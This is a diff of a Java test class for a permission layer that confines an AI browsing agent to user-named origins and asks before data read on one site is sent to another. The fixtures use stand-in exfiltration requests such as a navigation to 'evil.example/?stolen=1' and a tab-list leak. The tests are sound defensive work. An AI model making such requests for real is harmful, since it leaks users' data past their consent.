@@ -283,17 +283,70 @@ class PermissionDeskTest {
     }
 
     @Test
-    @DisplayName("Act works inside the origins the user named, and asks before data crosses")
+    @DisplayName("SEC-14 act works inside the origins the user named, and asks elsewhere")
     void actHasAFence() throws Exception {
         String other = "https://evil.example";
-        desk.turnStarted("s1", List.of(SITE + "/start", other + "/x"));
+        ObjectNode leak = Json.object().put("url", other + "/?stolen=1");
+        desk.turnStarted("s1", List.of(SITE + "/start"));
         assertThat(fixture.now(fixture.click(ACT, "r1")).allowed()).isTrue();
         assertThat(fixture.now(fixture.snapshot(ACT, SITE)).allowed()).isTrue();
+        assertThat(fixture.asks(fixture.browser(ACT, "goto", leak, other))).isTrue();
+        assertThat(desk.open().getFirst().ask().where().url()).startsWith(other + "/");
+        fixture.answer("reject_once");
+        assertThat(fixture.asks(fixture.snapshot(ACT, other))).as("a redirect led there").isTrue();
+        fixture.answer("allow_once");
+        ObjectNode nowhere = Json.object().put("url", "weird:evil");
+        assertThat(fixture.asks(fixture.browser(ACT, "goto", nowhere, "")))
+                .as("an address without an origin")
+                .isTrue();
+    }
+
+    @Test
+    @DisplayName("SEC-14 what was read at one site goes to another only after a yes for the pair")
+    void dataCrossesOnlyWithAYes() throws Exception {
+        String other = "https://evil.example";
+        String third = "https://third.example";
+        desk.turnStarted("s1", List.of(SITE + "/start", other + "/x", third));
+        ObjectNode leak = Json.object().put("url", other + "/?stolen=1");
+        ObjectNode words = Json.object().put("ref", "r1").put("text", "stolen");
+        assertThat(fixture.now(fixture.browser(ACT, "goto", leak, other)).allowed())
+                .as("nothing was read yet")
+                .isTrue();
+        assertThat(fixture.now(fixture.snapshot(ACT, SITE)).allowed()).isTrue();
+        assertThat(fixture.asks(fixture.browser(ACT, "type", words, other))).isTrue();
+        fixture.answer("allow_once");
+        assertThat(fixture.now(fixture.browser(ACT, "goto", leak, other)).allowed())
+                .as("once per pair")
+                .isTrue();
+        assertThat(fixture.now(fixture.browser(ACT, "type", words, SITE)).allowed())
+                .as("at home it is no secret")
+                .isTrue();
+        assertThat(fixture.now(fixture.snapshot(ACT, third)).allowed()).isTrue();
+        assertThat(fixture.asks(fixture.browser(ACT, "goto", leak, other)))
+                .as("another source, another question")
+                .isTrue();
+    }
+
+    @Test
+    @DisplayName("SEC-14 a yes to read a site is no yes to send it what was read elsewhere")
+    void readingIsNotSending() throws Exception {
+        String other = "https://evil.example";
+        desk.turnStarted("s1", List.of(SITE));
+        assertThat(fixture.now(fixture.snapshot(ACT, SITE)).allowed()).isTrue();
+        assertThat(fixture.asks(fixture.snapshot(ACT, other))).isTrue();
+        fixture.answer("allow_once");
         ObjectNode leak = Json.object().put("url", other + "/?stolen=1");
         assertThat(fixture.asks(fixture.browser(ACT, "goto", leak, other))).isTrue();
-        fixture.answer("allow_once");
-        assertThat(fixture.now(fixture.browser(ACT, "goto", leak, other)).allowed()).isTrue();
-        assertThat(fixture.asks(fixture.snapshot(ACT, "https://third.example"))).isTrue();
+        fixture.answer("reject_once");
+
+        desk.forget("s1");
+        desk.turnStarted("s1", List.of(other));
+        Ask tabs = fixture.browser(ACT, "browser_tabs", Json.object(), "");
+        assertThat(fixture.now(tabs).allowed()).isTrue();
+        ObjectNode list = Json.object().put("url", other + "/?tabs=all");
+        assertThat(fixture.asks(fixture.browser(ACT, "goto", list, other)))
+                .as("the list of all tabs tells about every site")
+                .isTrue();
     }
 
     @Test
